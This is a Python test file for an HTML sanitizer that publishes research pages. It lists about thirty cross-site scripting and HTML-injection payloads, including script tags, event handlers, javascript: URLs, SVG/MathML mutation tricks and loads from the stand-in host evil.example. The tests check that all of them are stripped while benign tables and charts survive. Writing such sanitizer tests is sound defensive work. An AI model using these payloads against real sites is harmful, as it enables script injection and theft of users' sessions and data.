"""Free text is hostile: nothing in it may run, load or cover the page."""

from __future__ import annotations

import re

import pytest

from cbresearch.publish.safe import clean

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='https://evil.example/a.svg#x'></use></svg>",
    "<svg><use xlink:href='data:image/svg+xml,<svg onload=alert(1)>'></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>@import url(https://evil.example/x.css);</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=q><button formaction='javascript:alert(1)'>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100vw'>x</p>",
    "<p style='fill:url(https://evil.example/x)'>x</p>",
    "<rect fill='url(https://evil.example/x)'></rect>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src='https://evil.example/v'></video><audio src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "</main></body><script>alert(1)</script>",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_html_is_disarmed(payload: str) -> None:
    kept = clean(payload).lower()
    assert not re.search(r"<[^>]*\bon\w+\s*=", kept)
    assert not re.search(
        r"<(script|iframe|object|embed|form|base|meta|link|style|template|video|foreignobject|math)", kept
    )
    assert not re.search(
        r"(javascript|vbscript):|data:text/html|data:image/svg\+xml,|evil\.example|position\s*:", kept
    )


@pytest.mark.parametrize("payload", HOSTILE)
def test_cleaning_twice_changes_nothing(payload: str) -> None:
    assert clean(clean(payload)) == clean(payload)


@pytest.mark.parametrize(
    "html",
    [
        '<table class="data"><caption>t</caption><thead><tr><th scope="col">a</th></tr></thead>'
        '<tbody><tr><th scope="row">b</th></tr><tr><td class="num" colspan="2">1</td></tr></tbody></table>',
        '<figure class="chart"><svg viewBox="0 0 1 1" role="img" aria-label="x"><path d="M0 0L1 1"></path></svg></figure>',
        '<svg><defs><clipPath id="p"><rect width="1"></rect></clipPath></defs><g clip-path="url(#p)"><use href="#m"></use></g></svg>',
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a line that rises">',
        '<details class="data"><summary>data</summary>x</details>',
        '<p class="headline" lang="zh">满意度</p>',
        '<a href="#s1" rel="noopener noreferrer">x</a>',
    ],
)
def test_what_our_own_pages_need_stays(html: str) -> None:
    assert clean(html) == html


def test_a_table_can_be_downloaded_from_the_page() -> None:
    assert 'href="data:text/csv;charset=utf-8,a%2Cb"' in clean(
        '<a download="t.csv" href="data:text/csv;charset=utf-8,a%2Cb">CSV</a>'
    )


def test_drawings_of_matplotlib_keep_their_marks() -> None:
    drawn = '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="#m1" x="3" style="stroke: #000; stroke-width: 0.8"/></svg>'
    kept = clean(drawn)
    assert 'href="#m1"' in kept
    assert re.search(r"stroke-width:\s*0\.8", kept)
